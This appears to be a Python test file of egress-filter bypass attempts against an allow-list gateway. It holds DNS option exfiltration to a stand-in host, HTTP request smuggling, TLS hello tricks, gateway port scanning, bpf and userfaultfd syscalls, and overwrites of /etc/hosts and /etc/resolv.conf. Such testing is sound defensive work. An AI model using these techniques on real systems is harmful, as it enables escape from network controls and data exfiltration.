"""Ways past the allow-list that are in no catalogue but ours."""
import ctypes
import os
import socket
import struct
import time

from greeting import extension, first_answer, handshake, hello, record
from question import answers, ask, ask_over_tcp, code, question, refuse_answer
from registry import Blocked, attempt
from wire import (ALLOWED, DENIED, RESOLVER, dial, echoed, http, judged, receive, receive_all, resolve,
                  tls)

libc = ctypes.CDLL(None, use_errno=True)


@attempt("X01", "a name below a denied one, under a wildcard", "x.bad.wild.test")
def _(name):
    # The denial is exact; what it leaves open must be what the rules say, and no more.
    address = resolve(name)
    return None if address.startswith("198.1") else address


@attempt("X02", "data in the options of a question for an allowed name, as seen outside")
def _():
    option = struct.pack(">HH", 65001, 20) + b"data.exfil.example.."
    subnet = struct.pack(">HHHBB", 8, 7, 1, 24, 0) + b"\x5d\xb8\xd8"
    reply = ask(question("edns.test", additional=1, extra=b"\0" + struct.pack(
        ">HHIH", 41, 1232, 0, len(option + subnet)) + option + subnet))
    return "told so" if b"seen" in reply else None


@attempt("X03", "a question behind a length that is wrong", 0, 5, 65535)
def _(size):
    message = question(DENIED)
    with dial(RESOLVER, 53, 3) as stream:
        stream.sendall(struct.pack(">H", size) + message)
        reply = stream.recv(4096)
        return refuse_answer(reply[2:]) if len(reply) > 12 else None


@attempt("X04", "a denied question behind an allowed one on one connection")
def _():
    both = question(ALLOWED), question(DENIED)
    with dial(RESOLVER, 53, 3) as stream:
        stream.sendall(b"".join(struct.pack(">H", len(one)) + one for one in both))
        got = b""
        while len(got) < 4 or len(got) < 2 + struct.unpack(">H", got[:2])[0] + 14:
            data = stream.recv(4096)
            if not data:
                raise Blocked("closed")
            got += data
        second = got[2 + struct.unpack(">H", got[:2])[0]:]
        return refuse_answer(second[2:])


@attempt("X06", "a second hello in the record of the first, or behind it", "inside", "behind")
def _(where):
    one, two = hello(ALLOWED.encode()), hello(DENIED.encode())
    data = record(one[5:] + two[5:]) if where == "inside" else one + two
    with dial(resolve(ALLOWED), 443) as stream:
        stream.sendall(data)
        answer = receive_all(stream, 2)
    # The first hello alone may be answered; the second never, and the connection must not go on.
    if answer[:1] == "\x15" or not answer:
        raise Blocked("an alert")
    return None if answer.count("\x02\x28\x00\x0a") else "a handshake"


@attempt("X07", "a byte out of band in the middle of a name", DENIED)
def _(name):
    data = hello(name.encode())
    cut = data.index(name.encode()) + 3
    with dial(resolve(ALLOWED), 443) as stream:
        stream.sendall(data[:cut])
        stream.send(b"!", socket.MSG_OOB)
        stream.sendall(data[cut:])
        return handshake(stream.recv(4096))


@attempt("X08", "a byte out of band that makes an allowed name of another", "plain.test")
def _(host):
    with dial(resolve(host), 80) as stream:
        stream.sendall(b"GET / HTTP/1.1\r\nHost: denied.test")
        stream.send(b"\b", socket.MSG_OOB)
        stream.sendall(b"\r\n\r\n")
        return judged(receive(stream))


@attempt("X09", "ports of the gateway that nobody named", "198.18.0.1", "198.18.0.53",
         "fd53:656e:7469::1")
def _(host):
    allowed = {22, 53, 80, 443, 7777, 8080, 9999}
    found = []
    for port in [*range(1, 1200), *range(3000, 3400), 5353, 5355, 6000, 8000, 8443, 10000, 30000,
                 50000]:
        if port in allowed:
            continue
        try:
            dial(host, port, 0.5).close()
            found.append(port)
        except OSError:
            pass
    return repr(found[:20]) if found else None


@attempt("X10", "listeners of the gateway by its own address", 80, 443, 7777, 22)
def _(port):
    return echoed("198.18.0.1", port)


@attempt("X11", "a name that an allowed one is an alias of, asked for directly", "edge.cdn.example")
def _(name):
    return resolve(name)


@attempt("X13", "a method that holds a request", "GET / HTTP/1.1\r\nHost: denied.test\r\n\r\nGET",
         "GET\t/x", "G\0T", "")
def _(method):
    text = f"{method} / HTTP/1.1\r\nHost: plain.test\r\n\r\n"
    answer = http("plain.test", text)
    return answer if DENIED in answer or "GET /x" not in text else answer


@attempt("X14", "versions of HTTP that there are not", "HTTP/0.9", "HTTP/1.2", "HTTP/2.0", "HTTP/11", "")
def _(version):
    return http("plain.test", f"GET / {version}\r\nHost: plain.test\r\n\r\n")


@attempt("X15", "a length in a response to HEAD, to shift the answers",
         "HEAD /bytes/64 HTTP/1.1\r\nHost: plain.test\r\n\r\nGET / HTTP/1.1\r\nHost: denied.test\r\n\r\n")
def _(text):
    with dial("plain.test", 80) as stream:
        stream.sendall(text.encode())
        answer = receive_all(stream, 2)
        return answer if '"host": "denied.test"' in answer else None


@attempt("X16", "a body that is expected and then is another request")
def _():
    with dial("plain.test", 80) as stream:
        stream.sendall(b"POST / HTTP/1.1\r\nHost: plain.test\r\nExpect: 100-continue\r\n"
                       b"Content-Length: 0\r\n\r\nGET / HTTP/1.1\r\nHost: denied.test\r\n\r\n")
        answer = receive_all(stream, 2)
        return answer if '"host": "denied.test"' in answer else None


@attempt("X17", "the gateway's forwarding and reverse paths", "net/ipv4/ip_forward",
         "net/ipv4/conf/all/route_localnet", "net/ipv4/ip_unprivileged_port_start",
         "net/ipv6/conf/all/forwarding")
def _(name):
    with open(f"/proc/sys/{name}", "r+") as file:
        value = file.read()
        file.seek(0)
        file.write(value)
        file.flush()
    return "written"


@attempt("X18", "neighbours, by bare frames and by bridges", "PACKET", "bridge")
def _(how):
    if how == "PACKET":
        socket.socket(17, 3, socket.htons(0x0806)).close()
    else:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as link:
            import fcntl
            fcntl.ioctl(link, 0x89A0, b"br9\0".ljust(16, b"\0"))  # SIOCBRADDBR
    return "done"


@attempt("X19", "programs of the kernel's own that see packets", 321, 323)
def _(number):
    # bpf(BPF_MAP_CREATE) and userfaultfd
    attributes = struct.pack("=IIIII", 2, 4, 8, 1, 0).ljust(128, b"\0")
    made = libc.syscall(number, 0, attributes, 128) if number == 321 else libc.syscall(number, 0)
    if made < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    os.close(made)
    return "made"


@attempt("X23", "an address whose name's rule has another port, with the Host of the right one")
def _():
    return http(ALLOWED, "GET / HTTP/1.1\r\nHost: plain.test\r\n\r\n")


@attempt("X24", "the address of one name with the hello of another allowed one")
def _():
    return judged(tls(ALLOWED, "a.b.wild.test"))


@attempt("X25", "an encrypted hello whose outer name is another", b"relaxed.test")
def _(outer):
    ech = extension(0xFE0D, b"\0\0\1\0\1\0\0\x20" + os.urandom(32) + b"\0\4abcd")
    return first_answer("relaxed.test", [hello(DENIED.encode(), ech)])


@attempt("X27", "a file of hosts that leads names elsewhere")
def _():
    with open("/etc/hosts", "a") as file:
        file.write("93.184.216.41 allowed.test\n")
    return judged(tls("allowed.test", "denied.test"))


@attempt("X28", "a file of resolvers that leads questions elsewhere")
def _():
    with open("/etc/resolv.conf", "w") as file:
        file.write("nameserver 8.8.8.8\n")
    return refuse_answer(ask(question(DENIED), server="8.8.8.8"))
